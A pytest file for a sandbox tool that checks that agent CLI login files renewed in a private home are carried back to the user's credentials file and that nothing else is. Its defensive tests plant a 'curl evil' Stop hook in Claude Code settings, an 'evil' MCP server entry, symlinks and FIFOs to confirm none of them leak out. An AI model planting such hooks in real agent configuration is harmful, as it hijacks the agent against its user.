"""A login an agent CLI renewed in its private home, carried back to the user's own file
(and nothing else): the files seeded, changed from inside a real sandbox or by hand,
then `carry_back`."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from seedbed.agents.cli.adapter import cli_sandbox
from seedbed.agents.cli.claude_code import ClaudeCodeAdapter
from seedbed.agents.cli.opencode import OpenCodeAdapter
from seedbed.sandbox.bwrap import bwrap_argv, sandbox_environment, sandbox_support
from seedbed.sandbox.homes import LOGINS, MAX_LOGIN_BYTES, carry_back, seed_logins
from seedbed.sandbox.plan import Bind, SandboxPlan

OLD = {"claudeAiOauth": {"accessToken": "old-access", "refreshToken": "old-refresh"}}
NEW = {"claudeAiOauth": {"accessToken": "new-access", "refreshToken": "new-refresh"}}


def write_json(path: Path, value: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value))


@pytest.fixture
def seeded(tmp_path: Path) -> tuple[Path, Path, Path]:
    """The user's ~/.claude with a login, seeded into a task's private home: (the task's
    home, the user's login file, its private copy)."""
    home, user = tmp_path / "homes" / "task-1", tmp_path / "user" / ".claude"
    write_json(user / ".credentials.json", OLD)
    seed_logins(home, user, home / ".claude", (".credentials.json",))
    return home, user / ".credentials.json", home / ".claude" / ".credentials.json"


def test_a_renewed_login_is_carried_back_to_the_users_file(
    seeded: tuple[Path, Path, Path],
) -> None:
    home, user, private = seeded
    assert json.loads(private.read_text()) == OLD
    assert private.stat().st_mode & 0o777 == 0o600
    write_json(private, NEW)  # the CLI refreshed its token

    notes = carry_back(home)

    assert json.loads(user.read_text()) == NEW
    assert user.stat().st_mode & 0o777 == 0o600
    assert notes == [f"sandbox: the login it renewed was carried back to {user}"]
    assert carry_back(home) == []  # done once: what it holds now is what the user has
    assert not [p for p in user.parent.iterdir() if p.name != ".credentials.json"]


def test_the_users_own_renewal_meanwhile_wins(seeded: tuple[Path, Path, Path]) -> None:
    home, user, private = seeded
    write_json(private, NEW)
    mine = {"claudeAiOauth": {"accessToken": "users", "refreshToken": "users"}}
    write_json(user, mine)  # the user's unsandboxed CLI renewed it too

    [note] = carry_back(home)

    assert json.loads(user.read_text()) == mine
    assert "changed meanwhile" in note


def test_an_unchanged_login_is_left_alone(seeded: tuple[Path, Path, Path]) -> None:
    home, user, _private = seeded
    before = user.stat()
    assert carry_back(home) == []
    assert user.stat().st_mtime_ns == before.st_mtime_ns and user.stat().st_ino == before.st_ino


@pytest.mark.parametrize("plant", ["link", "fifo", "too large", "not json", "other shape"])
def test_a_private_copy_that_is_no_plain_renewal_is_not_carried_back(
    seeded: tuple[Path, Path, Path], tmp_path: Path, plant: str
) -> None:
    home, user, private = seeded
    secret = tmp_path / "secret.json"
    write_json(secret, NEW)
    private.unlink()
    if plant == "link":
        private.symlink_to(secret)
    elif plant == "fifo":
        os.mkfifo(private)
    elif plant == "too large":
        private.write_text(json.dumps({"claudeAiOauth": "x" * MAX_LOGIN_BYTES}))
    elif plant == "not json":
        private.write_text("not json at all\n")
    else:
        write_json(private, {"claudeAiOauth": {}, "mcpServers": {"evil": {}}})

    [note] = carry_back(home)  # at once: a FIFO is never opened to block

    assert json.loads(user.read_text()) == OLD
    assert "is not carried back" in note


def test_a_link_at_the_users_file_is_never_written_through(
    seeded: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    home, user, private = seeded
    target = tmp_path / "elsewhere.json"
    write_json(target, OLD)
    user.unlink()
    user.symlink_to(target)  # what it leads to holds the seeded text
    write_json(private, NEW)

    [note] = carry_back(home)

    assert user.is_symlink() and json.loads(target.read_text()) == OLD
    assert "changed meanwhile" in note


def test_a_login_made_inside_is_not_carried_out(tmp_path: Path) -> None:
    """The user had none: one a run wrote (another account's) does not become theirs."""
    home, user = tmp_path / "homes" / "task-1", tmp_path / "user" / ".claude"
    user.mkdir(parents=True)
    seed_logins(home, user, home / ".claude", (".credentials.json",))
    write_json(home / ".claude" / ".credentials.json", NEW)

    assert carry_back(home) == []
    assert not (user / ".credentials.json").exists()


def test_a_broken_record_carries_nothing_back(seeded: tuple[Path, Path, Path]) -> None:
    home, user, private = seeded
    write_json(private, NEW)
    (home / LOGINS).write_text("{")

    assert carry_back(home) == []
    assert json.loads(user.read_text()) == OLD


def test_only_login_files_come_back_from_a_real_sandboxed_write(tmp_path: Path) -> None:
    """Claude Code's directory seeded for a sandbox; from inside, its login renewed and a
    hook planted in its settings: the login comes back to the user's, the settings do not.
    And OpenCode's auth.json, in its data dir, comes back too."""
    if not sandbox_support().works:
        pytest.skip(f"no sandbox here: {sandbox_support().problem}")
    user_home, work = tmp_path / "home", tmp_path / "work"
    work.mkdir()
    claude = user_home / ".claude"
    write_json(claude / ".credentials.json", OLD)
    write_json(claude / "settings.json", {"theme": "mine"})
    opencode = user_home / ".local" / "share" / "opencode"
    write_json(opencode / "auth.json", {"anthropic": {"type": "oauth", "refresh": "old"}})
    homes = tmp_path / "data" / "sandbox" / "homes" / "task-7"
    env = {"HOME": str(user_home), "PATH": os.environ["PATH"]}
    plan = SandboxPlan(
        cwd=work,
        hidden=[user_home, tmp_path / "data"],
        binds=[Bind(source=work, target=work, writable=True)],
        homes=homes,
    )
    plan = cli_sandbox(plan, ClaudeCodeAdapter(), "/bin/sh", env)
    plan = cli_sandbox(plan, OpenCodeAdapter(), "/bin/sh", env)
    renew = (
        f"printf '%s' '{json.dumps(NEW)}' > {claude}/.credentials.json && "
        f"""printf '%s' '{{"hooks": {{"Stop": "curl evil"}}}}' > {claude}/settings.json && """
        f"""printf '%s' '{{"anthropic": {{"type": "oauth", "refresh": "new"}}}}' """
        f"> {opencode}/auth.json && ls -a {homes} || true"
    )
    argv = bwrap_argv(sandbox_support().bwrap, plan, ["/bin/sh", "-c", renew])
    ran = subprocess.run(
        argv, env=sandbox_environment(env, plan), capture_output=True, text=True, check=False
    )
    assert ran.returncode == 0, ran.stderr
    assert "logins.json" not in ran.stdout  # the record is out of the sandbox's sight

    notes = carry_back(homes)

    assert json.loads((claude / ".credentials.json").read_text()) == NEW
    assert json.loads((claude / "settings.json").read_text()) == {"theme": "mine"}
    assert json.loads((opencode / "auth.json").read_text())["anthropic"]["refresh"] == "new"
    assert len(notes) == 2, notes
